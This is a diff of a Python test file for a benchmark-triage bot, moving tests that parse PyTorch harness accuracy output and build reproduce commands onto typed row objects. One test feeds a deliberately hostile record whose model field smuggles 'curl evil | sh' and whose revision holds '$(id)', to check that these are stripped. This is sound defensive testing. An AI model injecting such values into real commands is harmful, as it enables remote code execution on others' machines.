@@ -13,6 +13,7 @@ from pathlib import Path
 
 import pytest
 
+from bot.records import CheckError, CheckRow
 from bot.suites.harness import (
     _accuracy_from_output,
     harness_argv,
@@ -67,12 +68,12 @@ def test_harness_output_loses_its_progress_bars_and_keeps_the_accuracy_figures()
            "cpu  eval  MobileBertForMaskedLM  fail_accuracy\n")
     clean = without_progress_bars(out)
     assert "%|" not in clean and "Accuracy failed for key name logits" in clean
-    row = {"status": "fail_accuracy", "failure_class": "accuracy",
-           "error": {"type": "fail_accuracy", "message": "fail_accuracy"}}
+    row = CheckRow(status="fail_accuracy", failure_class="accuracy",
+                   error=CheckError(type="fail_accuracy", message="fail_accuracy"))
     _accuracy_from_output(row, clean)
-    assert row["accuracy"] == {"rmse_res": 0.56658, "rmse_ref": 0.00012, "tolerance": 0.01}
-    assert row["error"]["output_key"] == "logits" and "fail_accuracy" not in row["error"]["message"]
-    assert "RMSE compiled vs fp64 0.56658" in row["error"]["message"]
+    assert row.accuracy.to_json() == {"rmse_res": 0.56658, "rmse_ref": 0.00012, "tolerance": 0.01}
+    assert row.error.output_key == "logits" and "fail_accuracy" not in row.error.message
+    assert "RMSE compiled vs fp64 0.56658" in row.error.message
 
 
 def _git_checkout(tmp_path) -> Path:
@@ -170,14 +171,14 @@ def test_a_harness_issue_gives_the_plain_harness_command_and_the_harness_version
              "device": "cpu", "config": {}, "batch_size": 4,
              "spec": {"source": "harness", "suite": "huggingface", "model": "MobileBertForMaskedLM"},
              "harness": {"revision": rev, "transformers": "5.23.0", "timm": None, "cpu_isa": "avx2"}}
-    lines = reproduce_command(check, has_repro=True).splitlines()
+    lines = reproduce_command(CheckRow.from_json(check), has_repro=True).splitlines()
     assert lines[1] == f"cd PYTORCH_CHECKOUT    # a pytorch checkout at {rev}"
     assert lines[2] == ("python benchmarks/dynamo/huggingface.py --accuracy --inference --float32 --devices cpu "
                         "--inductor --only MobileBertForMaskedLM --batch-size 4    # the plain harness run")
-    assert _harness_versions(check) == [("harness revision", rev), ("transformers", "5.23.0"),
+    assert _harness_versions(CheckRow.from_json(check)) == [("harness revision", rev), ("transformers", "5.23.0"),
                                         ("cpu vector ISA", "avx2")]
     hostile = dict(check, model="x; curl evil | sh",
                    harness={"revision": "$(id)", "transformers": "<b>", "cpu_isa": "a b"})
-    text = reproduce_command(hostile, has_repro=False)
+    text = reproduce_command(CheckRow.from_json(hostile), has_repro=False)
     assert "benchmarks/dynamo" not in text and "curl" not in text and "$(id)" not in text
-    assert _harness_versions(hostile) == []
+    assert _harness_versions(CheckRow.from_json(hostile)) == []
